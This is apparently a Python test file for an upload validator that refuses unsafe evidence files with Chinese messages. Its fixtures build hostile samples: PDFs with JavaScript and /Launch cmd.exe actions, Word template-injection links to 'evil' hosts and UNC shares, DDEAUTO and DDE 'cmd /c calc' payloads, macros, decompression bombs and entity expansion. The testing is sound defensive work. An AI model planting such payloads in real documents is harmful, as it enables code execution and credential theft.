"""What is no evidence is refused, by words that say what it is and the way out, and leaves nothing in the store."""

import io
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

import pytest
from papers import EXCEL, PDF, exif, office, package, pdf, photo, stream
from pypdf import PdfWriter
from sqlalchemy import func, select

from files.intake import Upload, Wanted, take_all
from files.kinds import EVIDENCE, INVOICE, MOST_FILES, SIGNED, TYPES, FileType
from files.models import Attachment, Blob
from foundation.errors import BadInput, Faults

PRINT = "打印成 PDF 或扫描后重新上传"
ACTS = ("文件带有打开时会运行的程序，不能作为材料", PRINT)
LOCKED = ("文件设有密码，审核人员无法打开", "去掉密码后重新上传")
TWO = ("一个文件里藏有另一个文件，不能作为材料", "重新导出或扫描后再上传")
MACROS = ("文件带有宏程序，不能作为材料", "另存为不带宏的格式（DOCX、XLSX）或 PDF 后重新上传")
CARRIES = ("PDF 里附带了其他文件，审核人员看不到", "把附带的文件取出来单独上传，再把正文打印成 PDF 上传")
COMPLEX = ("PDF 的内容过于复杂，无法检查", "用打印功能另存为 PDF，或分成几个文件后再上传")
LINK = (
    "PDF 里有链接指向电脑上的另一个文件：a",
    "用打印功能另存为 PDF（链接会随之去掉），再重新上传；那份文件如需提交，请单独上传",
)
DTD = ("XML 文件带有文档类型定义（DTD），不能作为材料", "从开票平台重新下载原始的 XML，或上传 PDF、OFD 版式文件")
XFA = ("这是 XFA 动态表单，多数阅读器打不开", "在 Adobe Reader 里打印成 PDF 后重新上传")
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"

Words = tuple[str, str]
Row = tuple[str, str, Callable[[], bytes], Words]


def broken(word: str) -> Words:
    return f"{word} 文件不完整或已损坏，无法打开", "重新导出、拍照或扫描后再上传"


def too_wide(side: int, most: int = 120) -> Words:
    return f"图片有 {side} × {side} 像素，超过 {most} MP（百万像素）", "在看图软件或手机里缩小尺寸后再上传"


def foreign(word: str, way_out: str) -> Words:
    return f"这里不收 {word} 文件", way_out


def acting(body: bytes) -> Callable[[], bytes]:
    """A PDF with one more object that nothing refers to."""
    return lambda: pdf(body)


def opening(action: bytes) -> Callable[[], bytes]:
    """A PDF that does something when it is opened."""
    return lambda: pdf(catalogue=b"<</Type/Catalog/Pages 2 0 R/OpenAction " + action + b">>")


def packed(
    *, filters: str = "/FlateDecode", encode: Callable[[bytes], bytes] = zlib.compress, blank: bytes = b""
) -> bytes:
    """A PDF of version 1.5 whose script stands in an object stream, found by a stream of cross references."""
    inner = b"4 0 " + SCRIPT
    body = encode(inner)
    before = pdf()[: pdf().index(b"xref\n0")]
    table_at = len(before)
    objects = (
        b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter%s/Length %d" % (filters.encode(), len(body))
        + blank
        + b">>stream\n"
        + body
        + b"\nendstream endobj\n"
    )
    places = [before.index(b"%d 0 obj" % number) for number in (1, 2, 3)]
    rows = b"\0" * 7 + b"".join(b"\1" + struct.pack(">IH", place, 0) for place in places)
    rows += b"\2" + struct.pack(">IH", 5, 0) + b"\1" + struct.pack(">IH", table_at, 0)
    rows += b"\1" + struct.pack(">IH", table_at + len(objects), 0)
    table = (
        b"6 0 obj<</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Length %d>>stream\n" % len(rows)
        + rows
        + b"\nendstream endobj\n"
    )
    return before + objects + table + b"startxref\n%d\n%%%%EOF\n" % (table_at + len(objects))


def with_password() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(PDF))
    writer.encrypt("secret", algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def with_attachment(name: str, content: bytes) -> Callable[[], bytes]:
    def made() -> bytes:
        writer = PdfWriter(clone_from=io.BytesIO(PDF))
        writer.add_attachment(name, content)
        into = io.BytesIO()
        writer.write(into)
        return into.getvalue()

    return made


def locked_package() -> bytes:
    content = bytearray(office())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * (310 * 1024 * 1024))
    return made.getvalue()


def wide_png() -> bytes:
    """40,000 by 40,000 pixels, in a few hundred bytes."""
    content = photo("PNG")
    header = b"IHDR" + struct.pack(">II", 40_000, 40_000) + content[24:29]
    return content[:12] + header + struct.pack(">I", zlib.crc32(header)) + content[33:]


def wide_jpeg() -> bytes:
    content = photo()
    frame = content.index(b"\xff\xc0")
    return content[: frame + 5] + struct.pack(">HH", 30_000, 30_000) + content[frame + 9 :]


def wide_webp() -> bytes:
    content = photo("WEBP")
    assert content[12:16] == b"VP8 "
    return content[:26] + struct.pack("<HH", 16_383, 16_383) + content[30:]


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ELSEWHERE = ("文档打开时会从网络取用别处的内容，不能作为材料", "另存为 PDF 后重新上传")
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def related(kind: str, target: str, *, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a"'
        f' Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def fetching(kind: str, target: str, *, rels: str = "word/_rels/settings.xml.rels", mode: str = "External") -> bytes:
    """A Word document with a relation to something."""
    return office(**{rels: related(kind, target, mode=mode)})


def twice(name: str) -> bytes:
    """A package in which one program reads a harmless list of relations, and another the list before it."""
    made = io.BytesIO(fetching("attachedTemplate", "http://evil"))
    with warnings.catch_warnings(), zipfile.ZipFile(made, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(name, "<Relationships/>")
    return made.getvalue()


def text_of_word(*runs: str) -> bytes:
    """A Word document with this in its text."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(office())) as before, zipfile.ZipFile(made, "w") as archive:
        for name in before.namelist():
            text = f'<w:document xmlns:w="{space}">{"".join(runs)}</w:document>'
            archive.writestr(name, text if name == "word/document.xml" else before.read(name))
    return made.getvalue()


def field_of(*instructions: str) -> str:
    """A field whose instruction stands in several runs."""
    runs = "".join(f"<w:instrText>{part}</w:instrText>" for part in instructions)
    return f'<w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/>'


def package_by(method: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(office())) as before, zipfile.ZipFile(made, "w", method) as archive:
        for name in before.namelist():
            archive.writestr(name, before.read(name))
    return made.getvalue()


def linking_workbook() -> bytes:
    types = (
        f'<Types><Override PartName="/xl/workbook.xml" ContentType="{EXCEL}"/><Override PartName="/xl/links.bin" Content'
        'Type="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'
    )
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return package({"[Content_Types].xml": types, "xl/workbook.xml": "<w/>", "xl/links.bin": link})


PDFS: list[Row] = [
    ("a script", "a.pdf", acting(SCRIPT), ACTS),
    ("a script by another spelling", "a.pdf", acting(b"<</S/J#61va#53cript/JS(1)>>"), ACTS),
    ("a script called HTA", "月报.hta", acting(SCRIPT), ACTS),
    ("a script in an object stream", "a.pdf", packed, ACTS),
    (
        "in one of two filters",
        "a.pdf",
        lambda: packed(
            filters="[/ASCIIHexDecode/FlateDecode]", encode=lambda b: zlib.compress(b).hex().encode() + b">"
        ),
        ACTS,
    ),
    (
        "in hexadecimal digits",
        "a.pdf",
        lambda: packed(filters="/ASCIIHexDecode", encode=lambda b: b.hex().encode() + b">"),
        ACTS,
    ),
    (
        "packed twice",
        "a.pdf",
        lambda: packed(filters="[/FlateDecode/FlateDecode]", encode=lambda b: zlib.compress(zlib.compress(b))),
        ACTS,
    ),
    ("behind 600 blanks", "a.pdf", lambda: packed(blank=b" " * 600), ACTS),
    ("behind a comment", "a.pdf", lambda: packed(blank=b"%" + b"x" * 600 + b"\n"), ACTS),
    ("by a filter that nobody knows", "a.pdf", lambda: packed(filters="/Other"), broken("PDF")),
    ("a bomb", "a.pdf", lambda: packed(encode=lambda b: zlib.compress(b + b" " * 70_000_000)), COMPLEX),
    ("starting a program", "a.pdf", acting(b"<</S /Launch/F(cmd.exe)>>"), ACTS),
    ("sending a form", "a.pdf", acting(b"<</S/SubmitForm/F(http://a)>>"), ACTS),
    ("reading a form", "a.pdf", acting(b"<</S/ImportData/F(a)>>"), ACTS),
    ("going to a file on a server", "a.pdf", acting(b"<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"), ACTS),
    ("the same by names that are objects", "a.pdf", lambda: pdf(b"/GoToR ", b"<</S 4 0 R/F(a)>>"), LINK),
    ("an address that is an object", "a.pdf", lambda: pdf(b"(file://evil/a)", b"<</S/URI/URI 4 0 R>>"), ACTS),
    ("a link to a server's folder", "a.pdf", acting(b"<</S/URI/URI(file://evil/share)>>"), ACTS),
    ("a page that opens in the browser", "a.pdf", opening(b"<</S/URI/URI(http://a)>>"), ACTS),
    ("the same after a step within", "a.pdf", opening(b"<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://a)>>>>"), ACTS),
    ("the same when a page is turned", "a.pdf", acting(b"<</Type/Page/AA<</O<</S/URI/URI(http://a)>>>>>>"), ACTS),
    ("media that play", "a.pdf", acting(b"<</Type/Annot/Subtype/RichMedia>>"), ACTS),
    ("a stream from another file", "a.pdf", lambda: pdf(stream(b"x", b"/F(\\\\\\\\evil\\\\a)")), ACTS),
    ("an XFA form", "a.pdf", acting(b"<</XFA[(a)]>>"), XFA),
    ("a program within", "a.pdf", with_attachment("a.exe", b"MZ"), CARRIES),
    ("a program that calls itself XML", "a.pdf", with_attachment("a.xml", b"MZ"), CARRIES),
    ("XML that calls itself a program", "a.pdf", with_attachment("a.hta", b"<a/>"), CARRIES),
    ("XML with a document type within", "a.pdf", with_attachment("a.xml", b"<!DOCTYPE a><a/>"), DTD),
    ("a password", "a.pdf", with_password, LOCKED),
    ("cut off", "a.pdf", lambda: PDF[:60], broken("PDF")),
    ("nothing but the signs of one", "a.pdf", lambda: b"%PDF-1.4\n<script>1</script>\n%%EOF", broken("PDF")),
    (
        "without a page",
        "a.pdf",
        lambda: PDF.replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[]     "),
        broken("PDF"),
    ),
    ("an archive behind it", "a.pdf", lambda: PDF + package({"run.exe": "x"}), TWO),
    ("a program behind it", "a.pdf", lambda: PDF + b"MZ\x90\0", TWO),
]
PICTURES: list[Row] = [
    ("cut off", "a.jpg", lambda: photo()[:-30], broken("JPG")),
    ("cut off in its tables", "a.jpg", lambda: photo()[:100], broken("JPG")),
    ("cut off", "a.png", lambda: photo("PNG")[:-20], broken("PNG")),
    ("one byte changed", "a.png", lambda: photo("PNG")[:50] + b"\xaa" + photo("PNG")[51:], broken("PNG")),
    ("cut off", "a.webp", lambda: photo("WEBP")[:40], broken("WEBP")),
    ("nothing but the signs of one", "a.heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", broken("HEIC")),
    ("an archive behind it", "a.jpg", lambda: photo() + package({"run.exe": "x"}), TWO),
    ("an archive behind zeros", "a.jpg", lambda: photo() + b"\0" * 99 + package({"a": "x"}), TWO),
    ("a program behind it", "a.png", lambda: photo("PNG") + b"MZ\x90\0", TWO),
    ("a bomb", "a.png", wide_png, too_wide(40000)),
    ("a bomb", "a.webp", wide_webp, too_wide(16_383, 25)),
    ("a bomb", "a.jpg", wide_jpeg, too_wide(30000)),
]
PACKAGES: list[Row] = [
    (
        "a macro by its part's name",
        "a.docx",
        lambda: office(word__vbaProject_bin="x", **{"word__vbaProject.bin": "x"}),
        MACROS,
    ),
    (
        "a macro by its content type",
        "a.xlsx",
        lambda: office("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        MACROS,
    ),
    (
        "a macro under another name",
        "a.xlsm",
        lambda: office(EXCEL, **{"_rels__a.rels": related("vbaProject", "code.bin")}),
        MACROS,
    ),
    ("an old macro sheet", "a.xlsx", lambda: office("application/vnd.ms-excel.macrosheet+xml"), MACROS),
    (
        "a template from the net",
        "a.docx",
        lambda: fetching("attachedTemplate", "http://a/b.dotm"),
        ELSEWHERE,
    ),
    *(
        (f"a template at {target}", "a.docx", partial(fetching, "attachedTemplate", target), ELSEWHERE)
        for target in (
            "file://evil/share/x.dotm",
            r"file:///\\evil\share\x.dotm",
            r"/\evil\x.dotm",
            r"\\evil\x.dotm",
            r"\??\UNC\evil\x.dotm",
            "/%5cevil/x.dotm",
            "%5C%5Cevil/x.dotm",
            "%255c%255cevil/x.dotm",
            "%25252525255c%25252525255cevil/x.dotm",
            "%68ttp://evil",
            "&#xA0;ht&#x9;tp://evil",
            "ldap://evil",
            "mhtml:http://evil!x",
        )
    ),
    *(
        (f"{kind} from the net", "a.docx", partial(fetching, kind, "http://evil/x"), ELSEWHERE)
        for kind in ("image", "header", "control", "package", "externalLinkPath", "frame", "subDocument", "oleObject")
    ),
    ("a web page as text", "a.docx", lambda: fetching("aFChunk", "a.html", mode="Internal"), ELSEWHERE),
    ("no mode", "a.docx", lambda: fetching("attachedTemplate", "http://evil", mode="Internal"), ELSEWHERE),
    *(
        (f"relations in {name}", "a.docx", partial(fetching, "image", "http://evil", rels=name), ELSEWHERE)
        for name in ("word/_rels/a.xml.RELS", "word\\_rels\\a.xml.rels", "/word/_rels/a.xml.rel%73")
    ),
    ("a list of relations that is there twice", "a.docx", lambda: twice("word/_rels/settings.xml.rels"), TWO),
    ("the same behind a slash", "a.docx", lambda: twice("/word/_rels/settings.xml.rels"), TWO),
    ("the same in capitals", "a.docx", lambda: twice("WORD/_rels/settings.xml.rels"), TWO),
    (
        "a packed program",
        "a.docx",
        lambda: office(
            **{"word__embeddings__o.bin": COMPOUND + b"x" * 1_048_560 + "\1Ole10Native".encode("utf-16-le")}
        ),
        ("文档里嵌有别的文件，打开它可能运行程序，不能作为材料", "把嵌入的文件取出来单独上传，再把正文打印成 PDF 上传"),
    ),
    (
        "old Excel with macros within",
        "a.docx",
        lambda: office(**{"word__a.bin": COMPOUND + "_VBA_PROJECT_CUR".encode("utf-16-le")}),
        MACROS,
    ),
    ("a workbook with macros by its name", "a.docx", lambda: office(**{"word__embeddings__a.XLSM": "x"}), MACROS),
    (
        "a workbook with macros by its content",
        "a.docx",
        lambda: office(**{"word__embeddings__a.xlsx": office(EXCEL, **{"xl__vbaProject.bin": "x"})}),
        MACROS,
    ),
    ("a program by its content", "a.docx", lambda: office(**{"word__media__a.png": b"MZ\x90\0"}), ACTS),
    ("a field that starts a command", "a.docx", lambda: text_of_word(field_of(r'DDEAUTO c:\\cmd.exe "/k"')), ACTS),
    ("the same in pieces", "a.docx", lambda: text_of_word(field_of(" d", "de", "&#65;uto ", "cmd")), ACTS),
    ("the same in short", "a.docx", lambda: text_of_word('<w:fldSimple w:instr=" DDE cmd"/>'), ACTS),
    ("a link that starts a command", "a.xlsx", linking_workbook, ACTS),
    (
        "a packing that no office program knows",
        "a.docx",
        lambda: package_by(zipfile.ZIP_LZMA),
        broken("ZIP"),
    ),
    ("a program within", "a.docx", lambda: office(**{"word__embeddings__a.exe": "x"}), ACTS),
    ("a program within OFD", "a.ofd", lambda: package({"OFD.xml": "<OFD/>", "Doc_0/Attachs/a.js": "x"}), ACTS),
    (
        "entities in what it declares",
        "a.docx",
        lambda: package({"[Content_Types].xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
        DTD,
    ),
    ("a password", "a.docx", locked_package, LOCKED),
    (
        "a password, as Word sets it",
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99 + "EncryptedPackage".encode("utf-16-le"),
        LOCKED,
    ),
    ("cut off", "a.docx", lambda: office()[:-10], broken("ZIP")),
    ("a bomb", "a.xlsx", bomb, ("压缩内容过大，无法安全打开", "导出为 PDF 后重新上传")),
    ("a page behind it", "a.docx", lambda: office() + b"<html>", TWO),
    ("a program before it", "a.docx", lambda: b"PK\x03\x04MZ" + office(), TWO),
    (
        "a presentation",
        "a.pptx",
        lambda: office("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        foreign("ZIP", "先解压，再逐个上传里面的文件"),
    ),
]
MARKUP: list[Row] = [
    ("a document type", "a.xml", lambda: b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://a/b"><a/>', DTD),
    ("entities that blow up", "a.xml", lambda: b"<!DOCTYPE a [<!ENTITY b 'cc'><!ENTITY d '&b;&b;'>]><a>&d;</a>", DTD),
    ("a document type in UTF-16", "a.xml", lambda: "<!DOCTYPE a><a/>".encode("utf-16"), DTD),
    (
        "a page within",
        "a.xml",
        lambda: b"<?xml version='1.0'?><a><script xmlns='http://www.w3.org/1999/xhtml'>1</script></a>",
        ACTS,
    ),
    ("a style sheet", "a.xml", lambda: b"<?xml version='1.0'?><?xml-stylesheet href='a.xsl'?><a/>", ACTS),
    (
        "a drawing",
        "发票.svg",
        lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
        ACTS,
    ),
    ("cut off", "a.xml", lambda: b"<?xml version='1.0'?><a><b>", broken("XML")),
    ("an encoding that hides", "a.xml", lambda: b"<?xml version='1.0' encoding='utf-7'?><a/>", broken("XML")),
    ("too deep", "a.xml", lambda: b"<?xml version='1.0'?>" + b"<a>" * 5000 + b"</a>" * 5000, broken("XML")),
]
OTHERS: list[Row] = [
    ("nothing", "空.pdf", lambda: b"", ("是空文件", "选择有内容的文件")),
    (
        "a program called PDF",
        "a.pdf",
        lambda: b"MZ\x90\0",
        foreign("EXE", "程序不能作为材料；请选择材料本身的扫描件、照片或 PDF"),
    ),
    ("a page", "a.txt", lambda: b"\n<!DOCTYPE html><script>1</script>", foreign("HTML", PRINT)),
    ("a page called PDF with one behind", "a.pdf", lambda: b"<html>" + PDF, foreign("HTML", PRINT)),
    (
        "a program with a PDF behind",
        "a.pdf",
        lambda: b"MZ\0\0" + PDF,
        foreign("EXE", "程序不能作为材料；请选择材料本身的扫描件、照片或 PDF"),
    ),
    ("an archive", "材料.zip", lambda: package({"a.pdf": PDF}), foreign("ZIP", "先解压，再逐个上传里面的文件")),
    (
        "an archive called DOCX",
        "材料.docx",
        lambda: package({"word/document.xml": "x"}),
        foreign("ZIP", "先解压，再逐个上传里面的文件"),
    ),
    (
        "old Word",
        "方案.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99,
        foreign("DOC/XLS/PPT", "另存为 PDF 后重新上传"),
    ),
    ("a moving picture", "a.gif", lambda: photo("GIF"), foreign("GIF", "在看图软件里另存为 JPG 或 PNG，再重新上传")),
    (
        "a scanner's picture",
        "a.tif",
        lambda: photo("TIFF"),
        foreign("TIFF", "在看图软件里另存为 JPG 或 PNG，再重新上传"),
    ),
    (
        "a video",
        "a.mp4",
        lambda: b"\0\0\0\x18ftypmp42\0\0\0\0",
        foreign("MP4", "视频和录音不收；截取能说明情况的画面，以照片上传"),
    ),
    (
        "AVIF",
        "a.jpg",
        lambda: b"\0\0\0\x1cftypavif\0\0\0\0mif1avif",
        foreign("AVIF", "在看图软件里另存为 JPG 或 PNG，再重新上传"),
    ),
    ("a text", "说明.txt", lambda: b"\xef\xbb\xbftext", foreign("TXT", "另存为 PDF 后重新上传")),
    (
        "an invoice's XML where papers are wanted",
        "a.xml",
        lambda: b"<a/>",
        foreign("XML", "请上传这份文件的 PDF 版，或打印后扫描"),
    ),
    (
        "bytes",
        "a.pdf",
        lambda: bytes(range(256)),
        ("认不出这是什么文件", "用原来的软件打开，另存或打印成 PDF 后重新上传"),
    ),
]

ALL = [*PDFS, *PICTURES, *PACKAGES, *MARKUP, *OTHERS]


@pytest.mark.parametrize("row", ALL, ids=lambda row: f"{row[0]}: {row[1]}")
def test_it_is_refused_with_the_way_out(session, send, store, row) -> None:
    _, name, build, (said, way_out) = row
    with pytest.raises(BadInput) as refusal:
        send(build(), name)
    assert refusal.value.text() == f"“{name}”：{said}"
    assert refusal.value.way_out() == way_out
    assert refusal.value.field == "file"
    assert session.scalar(select(func.count()).select_from(Blob)) == 0
    assert not store.root.exists()


NAMELESS = {"“a.pdf”：是空文件", "“a.pdf”：认不出这是什么文件"}
"""What is of no kind is the only thing that a refusal names no kind of."""


@pytest.mark.parametrize(
    "allowed", [SIGNED, EVIDENCE, INVOICE, (TYPES[0],)], ids=["signed", "evidence", "invoice", "PDF"]
)
def test_no_refusal_names_as_useless_what_may_come(send, allowed: tuple[FileType, ...]) -> None:
    """What a refusal names is never what the field takes."""
    told, useless = [], []
    samples = [build for _, _, build, _ in OTHERS] + [
        office,
        photo,
        lambda: b"<a/>",
        lambda: package({"OFD.xml": "<OFD/>"}),
    ]
    for build in samples:
        try:
            send(build(), "a.pdf", allowed=allowed)
        except BadInput as refusal:
            told.append(refusal)
    assert told
    for refusal in told:
        named = re.search(r"不收 (\S+) 文件", refusal.text())
        if named is None:
            assert refusal.text() in NAMELESS
        else:
            useless.append(named[1])
        assert refusal.way_out()
    assert useless
    assert set(useless).isdisjoint(kind.word for kind in allowed)


def test_more_files_than_a_field_takes_are_told_before_any_is_stored(session, store, clerk, subject) -> None:
    wanted = [Wanted(Upload(io.BytesIO(PDF), f"{n}.pdf"), "process", "process_files") for n in range(MOST_FILES + 1)]
    with pytest.raises(BadInput, match="一次选了 21 个文件，最多 20 个") as refusal:
        take_all(session, clerk, wanted, subject=subject)
    assert refusal.value.field == "process_files"
    assert session.scalar(select(func.count()).select_from(Attachment)) == 0


def test_eight_photos_with_one_bad_name_the_bad_one(session, store, clerk, subject) -> None:
    chosen = [(f"{n}.jpg", photo(size=(40 + n, 30), exif=exif())) for n in range(7)] + [("坏.jpg", photo()[:-30])]
    wanted = [Wanted(Upload(io.BytesIO(content), name), "process", "process_files") for name, content in chosen]
    with pytest.raises(BadInput, match=r"“坏\.jpg”：JPG 文件不完整") as refusal:
        take_all(session, clerk, wanted, subject=subject)
    assert not isinstance(refusal.value, Faults)


def test_a_table_of_objects_without_end_is_told(send) -> None:
    with pytest.raises(BadInput, match="过于复杂"):
        send(pdf(*[b"0 "] * 50_001), "a.pdf")
